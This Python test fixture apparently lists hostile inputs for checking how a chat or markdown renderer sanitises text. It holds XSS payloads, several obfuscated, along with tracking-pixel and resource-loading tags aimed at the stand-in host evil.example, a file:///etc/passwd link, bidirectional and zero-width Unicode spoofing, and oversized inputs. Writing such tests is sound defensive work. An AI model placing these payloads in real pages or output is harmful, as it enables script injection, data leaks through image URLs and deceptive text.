"""Texts that try to run, to fetch or to mislead. `window.ran` is what they would set."""

RUN = "window.ran=1"

TEXTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example/frame></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import url(https://evil.example/b.css); body { display: none }</style>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<video src=https://evil.example/v autoplay></video><audio src=https://evil.example/a autoplay></audio>",
    "<a href='x' ping=https://evil.example/ping>x</a>",
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"[a](&#106;avascript:{RUN})",
    f"[a](\x01javascript:{RUN})",
    f"[a](javascript&colon;{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f"[a](vbscript:{RUN}) [b](file:///etc/passwd) [c](blob:x)",
    f"<javascript:{RUN}>",
    f"[a][1]\n\n[1]: javascript:{RUN} 'title'",
    "![a](https://evil.example/pixel.png?secret)",
    "![a][p]\n\n[p]: https://evil.example/pixel2.png",
    f"![a](data:image/svg+xml,<svg onload={RUN}></svg>)",
    f"![a](x\" onerror=\"{RUN})",
    "[![a](https://evil.example/in.png)](https://evil.example/out)",
    "https://evil.example/auto www.evil.example mail@evil.example",
    "```<script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```",
    "\u202eevil\u202c \u2066a\u2069 zero\u200bwidth\u2060 \ufeff\u00ad \x1b[31mred\x1b[0m \x9b31m",
    "- " * 10_000 + "x",
    "> " * 10_000 + "x",
    "*" * 50_000 + "a" + "_" * 50_000 + "[" * 10_000,
    "x" * 1_000_000,
]

# Names of tools, and what the page shows instead.
NAMES = {
    f"<img/src=x/onerror={RUN}>": f"<img/src=x/onerror={RUN}>",
    f"**bold**[a](javascript:{RUN})": f"**bold**[a](javascript:{RUN})",
    "![a](https://evil.example/tool.png)": "![a](https://evil.example/tool.png)",
    "\u202egnp.evil\u202c\u200b.": "⟨U+202E⟩gnp.evil⟨U+202C⟩⟨U+200B⟩.",
    "\x1b[31mred\x07\x9b.": "⟨U+001B⟩[31mred⟨U+0007⟩⟨U+009B⟩.",
}
# What a helper says of its tools.
SAID = f"<b>said</b> <script>{RUN}</script> **strong** [a](javascript:{RUN}) ![a](https://evil.example/said.png) \u202edias\u202c\x1b[31m"

# Some of them in the places of names.
SHORT = [text for text in TEXTS if len(text) < 200 and "\n" not in text]
